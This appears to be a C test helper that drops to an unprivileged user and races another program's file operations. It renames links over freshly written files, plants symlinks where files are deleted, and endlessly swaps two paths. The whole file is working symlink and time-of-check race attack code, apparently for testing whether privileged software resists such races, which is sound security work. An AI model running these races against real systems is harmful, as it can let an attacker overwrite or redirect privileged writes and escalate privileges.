/* attacker UID KIND ARGUMENTS...: becomes the user UID, prints `ready` and attacks until it is ended.
 *
 * follow NEW LINK          as soon as what was written to NEW is read again, LINK is renamed over NEW
 * replace NEW OWN OLD LINK as soon as what was written to NEW is read again, OWN is renamed over NEW and LINK over OLD
 * plant PART TARGET        as soon as PART is removed, PART is a link to TARGET
 * swap ONE OTHER           ONE and OTHER change places again and again
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <unistd.h>

static int watch(const char *path, const char **name) {
    static char dir[4096];
    snprintf(dir, sizeof dir, "%s", path);
    char *slash = strrchr(dir, '/');
    *slash = 0;
    *name = strrchr(path, '/') + 1;
    int events = inotify_init1(0);
    if (events < 0 || inotify_add_watch(events, dir, IN_ALL_EVENTS) < 0) {
        perror("inotify");
        exit(1);
    }
    return events;
}

/* Waits for an event of NAME that is in MASK. */
static void await(int events, const char *name, unsigned mask) {
    static char buffer[65536] __attribute__((aligned(__alignof__(struct inotify_event))));
    static ssize_t filled = 0, at = 0;
    for (;;) {
        if (at >= filled) {
            filled = read(events, buffer, sizeof buffer);
            at = 0;
            if (filled <= 0) exit(1);
        }
        struct inotify_event *event = (struct inotify_event *)(buffer + at);
        at += (ssize_t)(sizeof *event + event->len);
        if (event->len && (event->mask & mask) && strcmp(event->name, name) == 0) return;
    }
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    unsigned id = (unsigned)atoi(argv[1]);
    if (setgroups(0, NULL) || setgid(id) || setuid(id) || !id) {
        perror("becoming the attacker");
        return 1;
    }
    /* It ends with whoever started it; becoming somebody else has cleared this before. */
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    const char *kind = argv[2], *first = argv[3], *second = argv[4], *name;
    int events = watch(first, &name);
    puts("ready");
    fflush(stdout);
    if (strcmp(kind, "follow") == 0 || (strcmp(kind, "replace") == 0 && argc == 7)) {
        for (;;) {
            await(events, name, IN_CLOSE_WRITE);
            await(events, name, IN_OPEN);
            rename(second, first);
            if (argc == 7) rename(argv[6], argv[5]);
        }
    }
    if (strcmp(kind, "plant") == 0) {
        for (;;) {
            await(events, name, IN_DELETE);
            for (int tries = 0; tries < 1000 && symlink(second, first) && errno == EEXIST; tries++) sched_yield();
        }
    }
    if (strcmp(kind, "swap") == 0)
        for (;; usleep(10)) renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE);
    return 2;
}
